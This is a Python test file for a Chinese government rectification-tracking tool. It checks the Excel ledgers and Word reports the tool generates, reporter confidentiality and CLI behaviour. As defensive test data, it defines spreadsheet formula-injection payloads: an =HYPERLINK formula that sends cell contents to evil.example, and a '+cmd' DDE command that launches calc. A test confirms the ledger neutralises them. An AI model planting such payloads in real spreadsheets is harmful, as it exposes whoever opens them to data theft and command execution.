"""整改台账 and 一报告四清单 (zhenggai.adapters.reports), `zhenggai report` and the demo's reports.

A small campaign is played on a virtual clock (closed, overdue and escalated, in-hand,
unassigned and dismissed items, hostile texts, a confidential reporter); every file written
is read back with openpyxl / python-docx and checked against the engine's own queries.
"""

from __future__ import annotations

import contextlib
import datetime as dt
import io
import re
import subprocess
import sys
import zipfile
import zoneinfo
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import docx
import openpyxl
import pytest
from docx.oxml.ns import qn
from zhenggai.adapters.cli import main
from zhenggai.adapters.reports import KINDS, ReportError, write_reports
from zhenggai.adapters.reports._docx import BODY_FONT, HEADING_FONT
from zhenggai.adapters.reports._files import cell_text, format_due
from zhenggai.adapters.reports.ledger import COLUMNS, LIGHT_STYLES, NO_LIGHT, ReportLabels, ledger_name
from zhenggai.adapters.reports.unit_pack import FOLDER, chinese_number
from zhenggai.engine import Actor, Engine, ItemView, Reporter, ReporterKeys, VirtualClock
from zhenggai.testing import items_only, lead_by_name
from zhenggai.workflows import load_setup

from tests.conftest import DemoRun

SHANGHAI = zoneinfo.ZoneInfo("Asia/Shanghai")
KEY = "r1"
TITLE = "2023年持续深化作风整顿优化营商环境专项行动"
OFFICE = Actor("王主任", "leading_group_office", "discipline_commission")
SUPERVISION = Actor("孙组长", "supervision_team", "organization_department")
HOUSING_UNIT, SERVICE_UNIT, COMMERCE_UNIT = (
    "housing_construction_bureau",
    "government_service_center",
    "commerce_bureau",
)
HOUSING = Actor("李科长", "responsible", HOUSING_UNIT)
SERVICE = Actor("陈主任", "responsible", SERVICE_UNIT)
COMMERCE = Actor("周科长", "responsible", COMMERCE_UNIT)
#: The reporter: confidential, never in any report.
REPORTER_NAME, REPORTER_PHONE, REPORTER_CONTACT = "欧阳举报", "13912345678", "举报人住址幸福路8号"
HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"点我领补贴")'
HOSTILE_DESCRIPTION = "+cmd|' /C calc'!A0 审批超时"
HOSTILE_OFFICIAL = "@钱副县长"
HOSTILE_MEASURE = "-1+1 先行整改"
HEAVY = (
    "sqlalchemy",
    "sqlmodel",
    "alembic",
    "transitions",
    "pydantic",
    "xlsxwriter",
    "openpyxl",
    "docx",
    "matplotlib",
    "jinja2",
)


def at(text: str) -> dt.datetime:
    return dt.datetime.strptime(text, "%Y-%m-%d %H:%M").replace(tzinfo=SHANGHAI)


@dataclass(frozen=True)
class Played:
    db: Path
    engine: Engine
    clock: VirtualClock
    items: dict[str, ItemView]


def _play(db: Path) -> Played:
    """Five items on 2023-07-03 … 2023-08-21: closed, escalated, in hand, unassigned, dismissed."""
    clock = VirtualClock(at("2023-07-03 09:00"))
    engine = Engine(db, clock=clock, reporter_keys=ReporterKeys.generate())
    engine.start_campaign(items_only(load_setup("county_2023")), key=KEY)
    report = engine.report
    permit = report(
        KEY,
        OFFICE,
        title=HOSTILE_TITLE,
        description=HOSTILE_DESCRIPTION,
        track="construction",
        channel="hotline",
        severity="serious",
        reporter=Reporter(name=REPORTER_NAME, phone=REPORTER_PHONE, contact=REPORTER_CONTACT),
    )
    late = report(
        KEY,
        OFFICE,
        title="竣工验收久拖不决",
        description="某安置房项目竣工验收拖延三个月。",
        track="construction",
        channel="department_referral",
    )
    window = report(
        KEY,
        SUPERVISION,
        title="政务服务中心窗口一次性告知不落实",
        description="明察暗访发现: 不动产登记窗口未一次性告知所需材料。",
        track="government_services",
        channel="undercover_check",
    )
    pending = report(
        KEY,
        OFFICE,
        title="某企业反映用电报装慢",
        description="座谈会上企业反映用电报装流程繁琐。",
        track="factor_supply",
        channel="forum",
    )
    untrue = report(
        KEY,
        OFFICE,
        title="反映某站所索要好处费",
        description="经核查不属实。",
        track="obstruction",
        channel="liaison_card",
    )

    clock.set(at("2023-07-04 09:00"))
    engine.assign(permit.id, OFFICE, unit=HOUSING_UNIT, due=dt.date(2023, 8, 15))
    lead_by_name(engine, permit.id, HOSTILE_OFFICIAL)
    engine.preliminary_check(late.id, OFFICE, finding="初核属实")  # 部门联动: 移送初核 first
    engine.assign(late.id, OFFICE, unit=HOUSING_UNIT, due=dt.date(2023, 7, 20))
    lead_by_name(engine, late.id, "钱副县长")
    # 领导批示 and an approved 延期 on the permit item (issue 17), before its measures
    engine.record_instruction(
        permit.id, OFFICE, leader="钱副县长", given_on="2023-07-04", text="限期办结, 举一反三"
    )
    ext = engine.request_extension(permit.id, HOUSING, new_due="2023-08-31", reason="需多部门会商")
    engine.decide_extension(ext.id, Actor("周组长", "track_group_leader"), approve=True)
    engine.decide_extension(ext.id, OFFICE, approve=True)
    engine.assign(window.id, OFFICE, unit=SERVICE_UNIT, due=dt.date(2023, 8, 23))
    # 退单 of the window item, ruled against the unit (坚持原交办) the same day
    back = engine.send_back(window.id, SERVICE, reason="not_our_duty", note="应由县商务局办理")
    engine.rule_send_back(back.id, OFFICE, decision="insist", note="属于本单位职责")
    m1 = engine.add_measure(permit.id, HOUSING, text=HOSTILE_MEASURE, due=dt.date(2023, 7, 14))
    engine.add_measure(permit.id, HOUSING, text="建立审批超时预警机制")
    engine.start_rectification(permit.id, HOUSING)
    engine.add_measure(late.id, HOUSING, text="倒排工期, 月底前完成验收")
    engine.start_rectification(late.id, HOUSING)
    engine.add_measure(window.id, SERVICE, text="制定一次性告知清单并上墙公示")
    engine.start_rectification(window.id, SERVICE)
    engine.dismiss(untrue.id, OFFICE, reason="经核查, 反映问题不属实")

    clock.set(at("2023-07-12 10:00"))
    engine.complete_measure(m1.id, HOUSING)
    for measure in engine.measures(permit.id):
        if measure.done_at is None:
            engine.complete_measure(measure.id, HOUSING)
    engine.submit_for_verification(permit.id, HOUSING)
    clock.set(at("2023-07-13 10:00"))
    engine.verify(permit.id, SUPERVISION)
    clock.set(at("2023-07-14 16:00"))
    engine.close(permit.id, OFFICE)

    # Sweep day by day to 2023-08-21: the late item goes red, 挂牌督办, then 问责; the window
    # item, due on the 23rd, turns yellow on the 21st.
    day = dt.date(2023, 7, 15)
    while day <= dt.date(2023, 8, 21):
        clock.set(dt.datetime.combine(day, dt.time(0, 5), tzinfo=SHANGHAI))
        engine.sweep()
        day += dt.timedelta(days=1)
    clock.set(at("2023-08-21 09:00"))
    items = {"permit": permit, "late": late, "window": window, "pending": pending, "untrue": untrue}
    return Played(db, engine, clock, {name: engine.item(view.id) for name, view in items.items()})


@pytest.fixture(scope="module")
def played(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Played]:
    result = _play(tmp_path_factory.mktemp("r1") / "zhenggai.db")
    yield result
    result.engine.dispose()


@pytest.fixture(scope="module")
def written(played: Played, tmp_path_factory: pytest.TempPathFactory) -> dict[str, list[Path]]:
    """The ledger and the unit packs, written once for the module."""
    out = tmp_path_factory.mktemp("reports")
    return {
        "ledger": write_reports(played.engine, KEY, "ledger", out),
        "unit-pack": write_reports(played.engine, KEY, "unit-pack", out),
    }


def _sheet_rows(path: Path, sheet: str) -> list[tuple[Any, ...]]:
    return [tuple(r) for r in openpyxl.load_workbook(path)[sheet].iter_rows(values_only=True)]


def _xml_parts(path: Path) -> dict[str, str]:
    with zipfile.ZipFile(path) as archive:
        return {
            name: archive.read(name).decode("utf-8", "replace")
            for name in archive.namelist()
            if name.endswith((".xml", ".rels"))
        }


# ------------------------------------------------------------------------------- the played campaign


def test_the_played_campaign_has_what_the_reports_need(played: Played) -> None:
    """Guard for the tests below: the sweeps escalated the late item, and lights differ."""
    items = played.items
    assert items["permit"].state == "closed" and items["permit"].closed_at is not None
    assert items["late"].escalation_level == 2 and items["late"].light == "red"
    assert items["window"].light == "yellow" and items["window"].escalation_level == 0
    assert items["pending"].unit is None and items["untrue"].state == "dismissed"


# ------------------------------------------------------------------------------------------ ledger


def test_ledger_has_one_row_per_item_with_the_engines_values(
    played: Played, written: dict[str, list[Path]]
) -> None:
    (path,) = written["ledger"]
    assert path.name == f"{TITLE}-整改台账.xlsx" == ledger_name(TITLE)
    rows = _sheet_rows(path, "整改台账")
    assert rows[0][0] == f"{TITLE}整改台账"
    assert rows[1][0] == "XX县  截至 2023年8月21日  共 5 个问题"
    assert rows[2] == tuple(c.heading for c in COLUMNS)
    assert rows[2] == (
        "序号",
        "问题编号",
        "问题标题",
        "问题描述",
        "所属领域",
        "来源渠道",
        "问题程度",
        "责任单位",
        "牵头领导",
        "整改措施",
        "整改时限",
        "状态",
        "预警",
        "督办等级",
        "销号日期",
        "回头看次数",
        "领导批示",
        "延期",
        "退单",
        "主办单位",  # 主办/协办 (issue 17)
        "协办单位",
        "佐证材料",
    )
    ledger = played.engine.ledger(KEY)
    data = rows[3:]
    assert len(data) == len(ledger) == 5
    labels = ReportLabels.load(played.engine, KEY)
    for n, (row, entry) in enumerate(zip(data, ledger, strict=True), start=1):
        item = entry.item
        cells = dict(zip(rows[2], row, strict=True))
        assert cells["序号"] == n and cells["问题编号"] == item.number == f"ZG-2023-{item.id:04d}"
        assert cells["问题标题"] == cell_text(item.title)
        assert cells["问题描述"] == cell_text(item.description)
        assert cells["所属领域"] == item.track_name
        assert cells["状态"] == item.state_label
        assert cells["责任单位"] == item.unit_name
        assert cells["预警"] == (NO_LIGHT if item.state == "dismissed" else LIGHT_STYLES[item.light][0])
        assert cells["督办等级"] == labels.level(item.escalation_level)
        assert cells["回头看次数"] == item.reopen_count
        assert cells["整改时限"] == (format_due(item.due) if item.due else None)
        assert len(str(cells["整改措施"]).splitlines()) == max(1, len(entry.measures))

    by_id = {
        played.engine.item_by_number(KEY, row[1]).id: dict(zip(rows[2], row, strict=True)) for row in data
    }
    permit, late = by_id[played.items["permit"].id], by_id[played.items["late"].id]
    assert permit["整改时限"] == "2023-08-31 (周四)"
    assert permit["领导批示"] == "钱副县长 2023-07-04: 限期办结, 举一反三"
    assert permit["延期"] == "2023-08-15 → 2023-08-31"
    assert by_id[played.items["window"].id]["退单"] == "县政务服务中心退单 (不属于本单位职责): 坚持原交办"
    assert late["领导批示"] is None and late["延期"] is None and late["退单"] is None
    assert permit["来源渠道"] == "公开举报电话" and permit["问题程度"] == "较重"
    assert permit["销号日期"] == dt.datetime(2023, 7, 14)  # the local day of 销号, as a date cell
    assert permit["整改措施"] == (
        "1. -1+1 先行整改（时限2023-07-14 周五）【已完成 2023-07-12】\n2. 建立审批超时预警机制【已完成 2023-07-12】"
    )
    assert late["督办等级"] == "提请问责"  # the definition's label of the ladder's 问责 step
    assert late["整改措施"] == "1. 倒排工期, 月底前完成验收【未完成】"
    assert late["销号日期"] is None
    assert by_id[played.items["pending"].id]["整改措施"] == "尚未制定"
    assert by_id[played.items["window"].id]["督办等级"] == "无"


def test_ledger_lights_are_cell_fills(played: Played, written: dict[str, list[Path]]) -> None:
    (path,) = written["ledger"]
    sheet = openpyxl.load_workbook(path)["整改台账"]
    light_col = [c.heading for c in COLUMNS].index("预警") + 1
    seen = set()
    for row in range(4, sheet.max_row + 1):
        cell = sheet.cell(row, light_col)
        item = played.engine.item_by_number(KEY, sheet.cell(row, 2).value)
        if item.state == "dismissed":  # ended without 销号: no light
            assert cell.value == NO_LIGHT and cell.fill.fill_type is None
            continue
        word, fill, font = LIGHT_STYLES[item.light]
        assert cell.value == word
        assert cell.fill.fill_type == "solid"
        assert cell.fill.fgColor.rgb == "FF" + fill.lstrip("#").upper()
        assert cell.font.color.rgb == "FF" + font.lstrip("#").upper()
        seen.add(item.light)
    assert seen == {"green", "yellow", "red"}


def test_ledger_is_laid_out_for_screen_and_print(written: dict[str, list[Path]]) -> None:
    (path,) = written["ledger"]
    sheet = openpyxl.load_workbook(path)["整改台账"]
    assert sheet.freeze_panes == "A4"  # below the title, the 截至 line and the header row
    assert (
        sheet.auto_filter.ref == "A3:V8"
    )  # … 回头看次数, 领导批示, 延期, 退单, 主办单位, 协办单位, 佐证材料
    assert sheet.print_title_rows == "$3:$3"
    setup = sheet.page_setup
    assert setup.orientation == "landscape" and int(setup.paperSize) == 9
    assert sheet.sheet_properties.pageSetUpPr.fitToPage is True
    assert int(setup.fitToHeight) == 0 and int(setup.fitToWidth or 1) == 1
    assert sheet.oddHeader.center.text == f"{TITLE}整改台账"
    assert sheet.oddFooter.center.text == "第 &P 页 共 &N 页"
    assert "A1:V1" in {str(r) for r in sheet.merged_cells.ranges}
    widths = {c: sheet.column_dimensions[c].width for c in "CDJ"}
    assert widths["D"] > 30 and widths["J"] > 30  # 问题描述 and 整改措施 take the room
    assert sheet.cell(4, 4).alignment.wrap_text
    assert sheet.row_dimensions[4].height is not None and sheet.row_dimensions[4].height > 15  # wrapped text


def test_ledger_neutralises_hostile_cells(written: dict[str, list[Path]], played: Played) -> None:
    """A title like =HYPERLINK(…) comes back as text with the guard, never as a formula or link."""
    (path,) = written["ledger"]
    book = openpyxl.load_workbook(path)
    sheet = book["整改台账"]
    row = next(
        r for r in range(4, sheet.max_row + 1) if sheet.cell(r, 2).value == played.items["permit"].number
    )
    title, description, official = sheet.cell(row, 3), sheet.cell(row, 4), sheet.cell(row, 9)
    assert title.value == "'" + HOSTILE_TITLE and title.data_type == "s" and title.hyperlink is None
    assert description.value == "'" + HOSTILE_DESCRIPTION
    assert official.value == "'" + HOSTILE_OFFICIAL
    for cell in sheet.iter_rows():
        for c in cell:
            assert c.data_type != "f"
            if isinstance(c.value, str):
                assert not c.value.startswith(("=", "+", "-", "@", "\t", "\r")), c.value
    sheet_xml = _xml_parts(path)["xl/worksheets/sheet1.xml"]
    assert "<f>" not in sheet_xml and "<hyperlinks" not in sheet_xml


def test_ledger_for_one_unit_or_track(played: Played, tmp_path: Path) -> None:
    (path,) = write_reports(played.engine, KEY, "ledger", tmp_path, unit=HOUSING_UNIT)
    assert path.name == f"{TITLE}-县住建局-整改台账.xlsx"
    rows = _sheet_rows(path, "整改台账")
    assert rows[0][0] == f"{TITLE}整改台账(县住建局)"
    assert {r[7] for r in rows[3:]} == {"县住建局"} and len(rows) == 3 + 2
    (path,) = write_reports(played.engine, KEY, "ledger", tmp_path, track="government_services")
    rows = _sheet_rows(path, "整改台账")
    assert [r[1] for r in rows[3:]] == [played.items["window"].number]


def test_listings_by_unit_track_state_and_light_are_the_whole_lists_filtered(played: Played) -> None:
    """The indexed listings (revision 0033) answer what filtering every item would."""
    engine = played.engine
    every = engine.items(KEY)
    for light in ("green", "yellow", "red", "purple"):
        assert engine.items(KEY, light=light) == [i for i in every if i.light == light]
    for state in {i.state for i in every}:
        assert engine.items(KEY, state=state) == [i for i in every if i.state == state]
    for track in {i.track for i in every}:
        assert engine.items(KEY, track=track) == [i for i in every if i.track == track]
        assert [r.item for r in engine.ledger(KEY, track=track)] == [i for i in every if i.track == track]
    for unit in sorted({i.unit for i in every if i.unit is not None}):
        listed = engine.items(KEY, unit=unit)
        assert [i for i in every if i.unit == unit] == [i for i in listed if i.unit == unit]
        assert engine.items(unit=unit) == listed  # without the campaign: the same, one campaign
        ledger = engine.ledger(KEY, unit=unit)
        assert (
            [r.item for r in ledger]
            == listed
            == [r.item for r in engine.ledger_pages(KEY, unit=unit, page=1)]
        )
        assert engine.count_items(KEY, unit=unit) == len(listed)
        for row in ledger:
            assert list(row.measures) == engine.measures(row.item.id)
    rows = engine.ledger(KEY)
    assert [r.item for r in rows] == every
    assert list(engine.ledger_pages(KEY, page=2)) == rows
    for row in rows:
        assert list(row.measures) == engine.measures(row.item.id)


# ------------------------------------------------------------------------------------ unit packs


def test_a_pack_for_every_unit_with_items(written: dict[str, list[Path]]) -> None:
    names = sorted(p.relative_to(p.parent.parent).as_posix() for p in written["unit-pack"])
    assert names == sorted(
        f"{FOLDER}/{unit}-{kind}"
        for unit in ("县住建局", "县政务服务中心")
        for kind in ("自查报告.docx", "一报告四清单.xlsx")
    )


def _pack(written: dict[str, list[Path]], unit: str, suffix: str) -> Path:
    return next(p for p in written["unit-pack"] if p.name == f"{unit}-{suffix}")


def test_self_inspection_report_has_the_four_parts_and_the_engines_numbers(
    played: Played, written: dict[str, list[Path]]
) -> None:
    path = _pack(written, "县住建局", "自查报告.docx")
    document = docx.Document(str(path))
    paragraphs = [(p.style.name if p.style else "", p.text) for p in document.paragraphs]
    assert paragraphs[0] == ("Title", f"县住建局关于{TITLE}的自查报告")
    headings = [text for style, text in paragraphs if style == "Heading 1"]
    assert headings == ["一、基本情况", "二、存在的问题", "三、整改措施", "四、下一步工作"]
    text = "\n".join(t for _, t in paragraphs)
    progress = played.engine.progress(KEY, unit=HOUSING_UNIT)
    assert (progress.total, progress.closed, progress.open, progress.overdue) == (2, 1, 1, 1)
    assert (
        f"截至2023年8月21日，本单位共承担整改问题{progress.total}个，已办结{progress.closed}个"
        f"（其中已销号1个），正在整改{progress.open}个（其中整改中1个），逾期未完成{progress.overdue}个。"
    ) in text
    assert "在办问题预警情况：绿灯0个、黄灯0个、红灯1个。" in text
    assert "按期销号1个，逾期销号0个；挂牌督办1个；“回头看”重新整改0个。" in text
    assert "按专项分：工程领域专项整治2个。" in text
    # The tracks 县住建局 answers in (named, or as one of 各地各单位 / 县直有关单位) and what each targets.
    tracks = load_setup("county_2023").tracks_of("housing_construction_bureau")
    assert [t.id for t in tracks] == [
        "obstruction",
        "legacy_commitments",
        "construction",
        "factor_supply",
        "government_services",
    ]
    assert f"本单位承担{'、'.join(t.name for t in tracks)}等5项专项整治任务。" in text
    assert (
        "工程领域专项整治（工程领域专项整治工作组），本单位为牵头单位，整治重点：围标串标、限制竞争；"
        "审计结算时间过长；"
    ) in text
    # 二、存在的问题: one paragraph per problem, with title, description and state
    section = text[text.index("二、存在的问题") : text.index("三、整改措施")]
    problems = [line for line in section.splitlines()[1:] if line]
    assert len(problems) == 2
    assert problems[0].startswith(
        f"（一）{HOSTILE_TITLE}。{HOSTILE_DESCRIPTION}。（问题编号{played.items['permit'].number}；"
    )
    assert "当前状态：已销号，整改时限2023年8月31日（周四）。）" in problems[0]  # extended (延期)
    assert (
        problems[1].startswith("（二）竣工验收久拖不决。某安置房项目竣工验收拖延三个月。")
        and "当前状态：整改中" in problems[1]
    )
    section = text[text.index("三、整改措施") : text.index("四、下一步工作")]
    assert "（二）针对“竣工验收久拖不决”问题：1. 倒排工期, 月底前完成验收【未完成】。" in section
    section = text[text.index("四、下一步工作") :]
    assert "对尚未办结的1个问题" in section and "其中已逾期的1个问题" in section
    assert paragraphs[-2:] == [
        ("Normal", "县住建局"),
        ("Normal", "二〇二三年八月二十一日"),
    ]  # 成文日期 in Chinese numerals
    # the numbered lead of each problem is a 楷体 run
    lead = next(p for p in document.paragraphs if p.text.startswith("（二）竣工"))
    rpr = lead.runs[0]._element.rPr
    assert rpr is not None
    fonts = rpr.find(qn("w:rFonts"))
    assert fonts.get(qn("w:eastAsia")) == "楷体_GB2312" and lead.runs[0].bold


def test_self_inspection_report_sets_the_east_asian_fonts(written: dict[str, list[Path]]) -> None:
    path = _pack(written, "县政务服务中心", "自查报告.docx")
    document = docx.Document(str(path))

    def east_asia(style: str) -> str | None:
        fonts = document.styles[style].element.rPr.find(qn("w:rFonts"))
        return None if fonts is None else fonts.get(qn("w:eastAsia"))

    assert east_asia("Normal") == BODY_FONT and east_asia("Heading 1") == HEADING_FONT
    styles_xml = _xml_parts(path)["word/styles.xml"]
    assert "eastAsiaTheme" not in styles_xml
    assert document.core_properties.title == f"县政务服务中心关于{TITLE}的自查报告"
    assert document.core_properties.created == dt.datetime(
        2023, 8, 21, 1, 0, tzinfo=dt.UTC
    )  # the engine's clock


def test_four_lists_have_the_officials_columns_and_one_numbering(
    played: Played, written: dict[str, list[Path]]
) -> None:
    path = _pack(written, "县住建局", "一报告四清单.xlsx")
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["问题清单", "责任清单", "措施清单", "时间清单"]
    headers = {
        "问题清单": ("序号", "问题编号", "问题名称", "问题描述", "所属领域", "来源", "问题程度"),
        "责任清单": ("序号", "问题名称", "责任单位", "牵头领导", "责任人"),
        "措施清单": ("序号", "问题名称", "整改措施", "完成情况", "佐证材料"),
        "时间清单": ("序号", "问题名称", "整改时限", "当前状态", "销号日期"),
    }
    unit_items = [r.item for r in played.engine.ledger(KEY) if r.item.unit == HOUSING_UNIT]
    for name, header in headers.items():
        sheet = book[name]
        rows = [tuple(r) for r in sheet.iter_rows(values_only=True)]
        assert rows[0][0] == f"县住建局{name}"
        assert (
            rows[1][0] == f"{TITLE}  填报单位：县住建局  填报人：李科长  填报日期：2023年8月21日  共 2 个问题"
        )
        assert rows[2] == header
        titles = [r[header.index("问题名称")] for r in rows[3:]]
        assert [(r[0], t) for r, t in zip(rows[3:], titles, strict=True)] == [
            (n, cell_text(i.title)) for n, i in enumerate(unit_items, 1)
        ]
        assert sheet.freeze_panes == "A4" and sheet.auto_filter.ref == f"A3:{chr(64 + len(header))}5"
        assert sheet.page_setup.orientation == "landscape" and sheet.print_title_rows == "$3:$3"
    problems = _sheet_rows(path, "问题清单")[3:]
    assert problems[0][1] == played.items["permit"].number
    assert problems[0][3:] == ("'" + HOSTILE_DESCRIPTION, "工程领域专项整治", "公开举报电话", "较重")
    duties = _sheet_rows(path, "责任清单")[3:]
    assert duties[0][2:] == (
        "县住建局",
        "'" + HOSTILE_OFFICIAL,
        "李科长",
    )  # who added and completed the measures
    assert duties[1][2:] == ("县住建局", "钱副县长", "李科长")
    measures = _sheet_rows(path, "措施清单")[3:]
    assert measures[0][3] == "措施已完成 2/2 项\n问题已销号 (2023-07-14)"
    assert measures[1][3] == "措施已完成 0/1 项\n问题整改中"
    times = _sheet_rows(path, "时间清单")[3:]
    assert times[0][2:] == ("2023-08-31 (周四)", "已销号", dt.datetime(2023, 7, 14))  # extended (延期)
    assert times[1][2:] == ("2023-07-20 (周四)", "整改中", None)


def test_unit_pack_for_one_unit_even_without_items(played: Played, tmp_path: Path) -> None:
    files = write_reports(played.engine, KEY, "unit-pack", tmp_path, unit=COMMERCE_UNIT)
    assert [p.name for p in files] == ["县商务局-自查报告.docx", "县商务局-一报告四清单.xlsx"]
    text = "\n".join(p.text for p in docx.Document(str(files[0])).paragraphs)
    assert "本单位共承担整改问题0个" in text and "本单位暂无交办的问题。" in text
    assert len(_sheet_rows(files[1], "问题清单")) == 3  # title, 截至, header


def test_chinese_numbers() -> None:
    assert [chinese_number(n) for n in (1, 9, 10, 11, 20, 21, 99, 100, 101, 110, 305, 1000, 1001, 2019)] == [
        "一",
        "九",
        "十",
        "十一",
        "二十",
        "二十一",
        "九十九",
        "一百",
        "一百零一",
        "一百一十",
        "三百零五",
        "一千",
        "一千零一",
        "二千零一十九",
    ]


# ------------------------------------------------------------------------------------ privacy


def _every_text(out: Path) -> Iterator[tuple[str, str]]:
    for path in sorted(out.rglob("*")):
        if path.suffix in (".xlsx", ".docx"):
            for name, text in _xml_parts(path).items():
                yield f"{path.name}:{name}", text
        elif path.is_file():
            yield path.name, path.read_text("utf-8", "replace")


def test_no_reporter_anywhere_in_any_report(played: Played, tmp_path: Path) -> None:
    """Not the reporter's name, phone or contact, in any part of any file ``report all`` writes."""
    files = write_reports(played.engine, KEY, "all", tmp_path)
    assert {p.suffix for p in files} >= {".xlsx", ".docx", ".html", ".md"}
    assert played.engine.read_reporter(
        played.items["permit"].id, Actor("保管员", "custodian", "discipline_commission")
    )
    checked = 0
    for name, text in _every_text(tmp_path):
        for secret in (REPORTER_NAME, REPORTER_PHONE, REPORTER_CONTACT, "幸福路"):
            assert secret not in text, (name, secret)
        checked += 1
    assert checked > 20


# ------------------------------------------------------------------------------ write_reports


def test_write_reports_checks_everything_before_writing(played: Played, tmp_path: Path) -> None:
    out = tmp_path / "out"
    from zhenggai.engine import ZhenggaiError

    refusals: list[tuple[dict[str, Any], str]] = [
        ({"kind": "ledger", "unit": "no_such_unit"}, "没有单位「no_such_unit」"),
        ({"kind": "all", "track": "no_such_track"}, "没有专项「no_such_track」"),
        ({"kind": "nonsense"}, "未知的报告类型"),
        ({"kind": "ranking", "unit": HOUSING_UNIT}, "不按单位出具"),
        ({"kind": "digest", "track": "construction"}, "覆盖整个专项行动"),
        ({"kind": "ledger", "redact": tmp_path / "r.toml"}, "--redact 只用于公开摘要"),
    ]
    for kwargs, message in refusals:
        with pytest.raises(ReportError, match=re.escape(message)):
            write_reports(played.engine, KEY, out=out, **kwargs)
    with pytest.raises(ZhenggaiError):
        write_reports(played.engine, "no_such_campaign", "ledger", out)
    assert not out.exists()


def test_write_reports_leaves_nothing_half_written(
    played: Played, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A writer failing after others wrote: no file of this run is left, and old files stay."""
    from zhenggai.adapters.reports import unit_pack

    out = tmp_path / "out"
    out.mkdir()
    (out / "keep.txt").write_text("旧文件")

    def broken(*args: object, **kwargs: object) -> list[Path]:
        raise ReportError("模拟的写入失败")

    monkeypatch.setattr(unit_pack, "write_unit_packs", broken)
    with pytest.raises(ReportError, match="模拟的写入失败"):
        write_reports(played.engine, KEY, "all", out)
    assert sorted(p.name for p in out.iterdir()) == ["keep.txt"]
    fresh = tmp_path / "fresh"
    with pytest.raises(ReportError):
        write_reports(played.engine, KEY, "all", fresh / "2023" / "08")
    assert not fresh.exists()  # the folders it made for nothing are gone too


def test_write_reports_all_for_one_unit_skips_the_whole_campaign_kinds(
    played: Played, tmp_path: Path
) -> None:
    files = write_reports(played.engine, KEY, "all", tmp_path, unit=SERVICE_UNIT)
    names = [p.name for p in files]
    assert f"{TITLE}-县政务服务中心-整改台账.xlsx" in names
    assert "县政务服务中心-自查报告.docx" in names
    assert not [n for n in names if "单位排名" in n or "践诺晒成效" in n]
    assert all(p.resolve().is_relative_to(tmp_path.resolve()) and p.exists() for p in files)
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".zhenggai-")]  # no staging left


def test_kinds() -> None:
    assert KINDS == ("ledger", "unit-pack", "progress", "cases", "ranking", "digest", "registers", "all")


# ------------------------------------------------------------------------------------------- CLI


@dataclass(frozen=True)
class Run:
    code: int
    out: str
    err: str


@pytest.fixture
def cli(capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> Callable[..., Run]:
    for name in ("ZHENGGAI_DB", "ZHENGGAI_ACTOR", "ZHENGGAI_ROLE", "ZHENGGAI_UNIT", "ZHENGGAI_DEBUG"):
        monkeypatch.delenv(name, raising=False)

    def run(*argv: str) -> Run:
        code = main(list(argv))
        captured = capsys.readouterr()
        return Run(code, captured.out, captured.err)

    return run


def test_cli_report_writes_and_lists_the_files(
    played: Played, cli: Callable[..., Run], tmp_path: Path
) -> None:
    out = tmp_path / "报告"
    result = cli("--db", str(played.db), "report", "ledger", "--campaign", KEY, "--out", str(out))
    assert result.code == 0, result.err
    lines = result.out.splitlines()
    assert lines[0] == "已出具整改台账, 共 1 个文件:"
    assert lines[1] == f"  {out.resolve() / ledger_name(TITLE)}"
    rows = _sheet_rows(out / ledger_name(TITLE), "整改台账")
    assert len(rows) == 3 + 5 and rows[2][0] == "序号"

    result = cli(
        "--db", str(played.db), "report", "unit-pack", "--unit", HOUSING_UNIT, "--out", str(out), "--json"
    )
    assert result.code == 0, result.err
    import json

    data = json.loads(result.out)
    assert data["kind"] == "unit-pack" and data["campaign"] == KEY
    assert [Path(f).name for f in data["files"]] == ["县住建局-自查报告.docx", "县住建局-一报告四清单.xlsx"]
    assert all(Path(f).exists() for f in data["files"])


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["ledger", "--campaign", KEY, "--unit", "nowhere"], "错误: 未知单位「nowhere」"),
        (["unit-pack", "--campaign", KEY, "--track", "nothing"], "错误: 未知专项整治「nothing」"),
        (["ledger", "--campaign", "nocampaign"], "错误: "),
        (["ranking", "--unit", HOUSING_UNIT], "错误: 单位排名不按单位出具"),
    ],
)
def test_cli_report_refusals_write_nothing(
    played: Played, cli: Callable[..., Run], tmp_path: Path, args: list[str], message: str
) -> None:
    out = tmp_path / "out"
    result = cli("--db", str(played.db), "report", *args, "--out", str(out))
    assert result.code == 1
    assert result.out == ""
    assert result.err.startswith(message) and len(result.err.splitlines()) == 1
    assert not out.exists()


def test_cli_report_usage_errors(cli: Callable[..., Run], tmp_path: Path) -> None:
    result = cli("report", "everything", "--out", str(tmp_path))
    assert result.code == 2 and "用法错误" in result.err
    result = cli("report", "ledger")
    assert result.code == 2 and "--out" in result.err


def test_report_help_imports_nothing_heavy() -> None:
    """`zhenggai report --help` is Chinese and imports no database stack and no document library."""
    code = f"""
import contextlib, io, sys
from zhenggai.adapters.cli import main
buffer = io.StringIO()
with contextlib.redirect_stdout(buffer):
    assert main(["report", "--help"]) == 0
    assert main(["demo", "--help"]) == 0
assert "一报告四清单" in buffer.getvalue() and "--reports" in buffer.getvalue(), buffer.getvalue()
print(sorted(m for m in sys.modules if m.split(".")[0] in {HEAVY!r}))
"""
    proc = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, check=False, timeout=60
    )
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout.strip() == "[]"


# ------------------------------------------------------------------------------------------ demo


def demo_total(out: str) -> int:
    """How many items the demo's simulation summary counts."""
    found = re.search(r"【模拟汇总】[^\n]*\n问题 (\d+) 件", out)
    assert found is not None, out
    return int(found.group(1))


def test_demo_writes_every_report_of_the_simulated_campaign(demo: DemoRun) -> None:
    reports = demo.reports
    assert demo.code == 0, demo.err
    out = demo.out
    assert out.index("【模拟汇总】") < out.index("【报告】")
    assert f"已写入 {reports.resolve()}:" in out
    ledger = reports / ledger_name(TITLE)
    rows = _sheet_rows(ledger, "整改台账")
    total = demo_total(out)  # the simulation's 300 items and what 督查 visits found
    assert total >= 300 and len(rows) == 3 + total
    assert rows[1][0].startswith(f"XX县  截至 2023年12月31日  共 {total} 个问题")
    packs = sorted((reports / FOLDER).iterdir())
